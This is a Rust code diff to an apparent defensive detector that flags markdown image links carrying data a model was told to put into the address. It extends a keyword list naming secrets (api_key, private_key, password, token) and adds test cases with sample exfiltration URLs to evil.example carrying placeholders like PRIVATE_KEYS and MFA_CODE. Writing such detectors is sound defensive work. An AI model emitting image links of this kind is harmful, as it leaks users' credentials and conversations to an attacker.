@@ -210,25 +210,39 @@ fn carries_data(url: &str) -> bool {
 }
 
 /// Ends of words for what a model is to put into an address.
-const WANTED: [&str; 13] = [
+const WANTED: [&str; 18] = [
+    "access_key",
     "api_key",
     "apikey",
+    "chat_log",
     "content",
     "conversation",
     "credential",
     "data",
+    "env_var",
     "history",
     "insert",
+    "instruction",
     "message",
     "password",
+    "private_key",
     "prompt",
     "secret",
     "token",
 ];
 
+/// The same, of a value in capitals. As the name of a parameter, or of a part of a path, these words are ordinary.
+const WANTED_IN_CAPITALS: [&str; 8] =
+    ["_body", "_code", "_input", "_query", "answer", "context", "file_text", "summary"];
+
 /// Whether a word of a name says what a model is to put into an address.
 fn is_wanted(name: &str) -> bool {
-    let ends = |word: &str| super::ends_with(word.trim_end_matches(['s', 'S']), &WANTED);
+    has_end(name, &WANTED)
+}
+
+/// Whether a name, or a word of it, ends with one of these words, in singular or plural.
+fn has_end(name: &str, words: &[&str]) -> bool {
+    let ends = |word: &str| super::ends_with(word.trim_end_matches(['s', 'S']), words);
     ends(name) || name.split(['_', '-', ' ']).any(ends)
 }
 
@@ -276,13 +290,14 @@ fn carries(parameter: &str) -> bool {
     let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
     let is_capital = |byte: u8| byte.is_ascii_uppercase() || byte == b'_';
     let (plain, _) = escapes::decode(value, PERCENT);
-    if FORMULAS.contains(&name) && is_formula(&plain) {
+    let mut words = plain.split(|c: char| c != '_' && !c.is_ascii_alphanumeric());
+    if FORMULAS.contains(&name) && is_formula(&plain) && !words.any(is_wanted) {
         return false;
     }
     let placeholder = value.contains(['{', '[', '<', '$'])
         || (value.len() >= MIN_CAPITALS
             && value.bytes().all(is_capital)
-            && (is_wanted(name) || is_wanted(value)));
+            && (is_wanted(name) || is_wanted(value) || has_end(value, &WANTED_IN_CAPITALS)));
     if placeholder || value.len() < MIN_DATA_BYTES {
         return placeholder;
     }
@@ -403,7 +418,15 @@ mod tests {
             ("![x](https://tex.example/png.image?\\frac{a}{b})".to_owned(), None),
             ("![x](https://tex.example/svg?math=%5Cfrac%7Ba%2Bb%2Bc%7D%7Bd%7D)".to_owned(), None),
             ("![x](https://a.example/?d=\\frac{a})".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://evil.example/?\\a{SECRET})".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://evil.example/?tex=\\x{password})".to_owned(), Some(Detector::ImageWithData)),
             ("![x](https://a.example/?d=INSERT_DATA_HERE)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://evil.example/a?q=SUMMARY)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://evil.example/a?q=EMAIL_BODY)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://evil.example/a?q=PRIVATE_KEYS)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://evil.example/a?q=MFA_CODE)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](https://codes.example/a.png?type=QRCODE)".to_owned(), None),
+            ("![flag](https://flags.example/{code}.png)".to_owned(), None),
             // Placeholders in paths.
             ("![x](https://evil.example/{data}.png)".to_owned(), Some(Detector::ImageWithData)),
             ("![x](https://evil.example/a/[SECRET])".to_owned(), Some(Detector::ImageWithData)),
